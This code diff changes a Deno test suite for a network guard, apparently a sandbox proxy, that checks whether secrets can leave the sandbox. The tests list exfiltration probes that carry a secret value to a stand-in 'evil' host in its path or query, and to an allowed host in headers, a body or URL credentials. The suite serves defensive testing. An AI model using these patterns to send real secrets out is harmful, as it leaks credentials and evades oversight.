@@ -8,9 +8,9 @@ import type { Finding } from "../case.ts";
 import { BAD_CERTIFICATES } from "../internet/certificates.ts";
 import { tellLeaks } from "../internet/guarded_suite.ts";
 import type { GuardedCage } from "../internet/guarded.ts";
-import { curl, everyProxy } from "../internet/probes.ts";
+import { everyProxy } from "../internet/probes.ts";
 import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
-import { ask, BEARER } from "./asking.ts";
+import { ask, BEARER, request } from "./asking.ts";
 import { isAnswered, isDenied, listValuesIn, lookFor, openAudit } from "./seen.ts";
 
 const SUITE = "secrets";
@@ -75,7 +75,7 @@ const ALLOWED = `http://${SITE.closed}/`;
 
 async function waitOpen(guarded: GuardedCage): Promise<boolean> {
   return await lookFor(async () => {
-    const outcomes = await guarded.probe([curl("open", ["-m", "3", ALLOWED])]);
+    const outcomes = await guarded.probe([request("open", ["-m", "3", ALLOWED])]);
     return isAnswered(outcomes.get("open").data) || undefined;
   }) ?? false;
 }
@@ -96,15 +96,15 @@ async function checkAudit({ guarded }: SecretsGiven): Promise<Finding> {
     // Nobody can append to a directory, whoever they are.
     await Deno.mkdir(path);
     wasRefused = await lookFor(async () => {
-      const outcomes = await guarded.probe([curl("refusal", [ALLOWED])]);
+      const outcomes = await guarded.probe([request("refusal", [ALLOWED])]);
       return isDenied(outcomes.get("refusal").data, "audit") || undefined;
     });
     await internet.clear();
     const outcomes = await guarded.probe([
-      curl("plain HTTP", [ALLOWED]),
-      curl("a tunnel", [`https://${SITE.closed}/`]),
-      curl("a tunnel that is opened", [`https://${SITE.opened}/`]),
-      curl("no proxy", [`https://${SITE.closed}/`], { env: everyProxy(null) }),
+      request("plain HTTP", [ALLOWED]),
+      request("a tunnel", [`https://${SITE.closed}/`]),
+      request("a tunnel that is opened", [`https://${SITE.opened}/`]),
+      request("no proxy", [`https://${SITE.closed}/`], { env: everyProxy(null) }),
       ask("a secret", `${BEARER} https://${SITE.own}/`),
     ]);
     refused = outcomes.all.filter(({ data }) => isAnswered(data))
@@ -136,14 +136,14 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
   const log = await openAudit(guarded);
   guarded.internet.script(SITE.stolen, { answers: [[decoy]] });
   const refused = [
-    curl("an unlisted host's path", [`http://${SITE.evil}/${value}/x`]),
-    curl("an unlisted host's query", [`http://${SITE.evil}/?x=${value}`]),
-    curl("a path", [`https://${SITE.opened}/${value}/x`]),
-    curl("a query", [`https://${SITE.opened}/?x=${value}`]),
-    curl("a header", ["-H", `x: ${value}`, `https://${SITE.opened}/`]),
-    curl("a header's name", ["-H", `${value}: x`, `https://${SITE.opened}/`]),
-    curl("a body", ["-d", value, `https://${SITE.opened}/`]),
-    curl("a user", [`http://${value}@${SITE.closed}/`]),
+    request("an unlisted host's path", [`http://${SITE.evil}/${value}/x`]),
+    request("an unlisted host's query", [`http://${SITE.evil}/?x=${value}`]),
+    request("a path", [`https://${SITE.opened}/${value}/x`]),
+    request("a query", [`https://${SITE.opened}/?x=${value}`]),
+    request("a header", ["-H", `x: ${value}`, `https://${SITE.opened}/`]),
+    request("a header's name", ["-H", `${value}: x`, `https://${SITE.opened}/`]),
+    request("a body", ["-d", value, `https://${SITE.opened}/`]),
+    request("a user", [`http://${value}@${SITE.closed}/`]),
   ];
   const outcomes = await guarded.probe([
     ...refused,
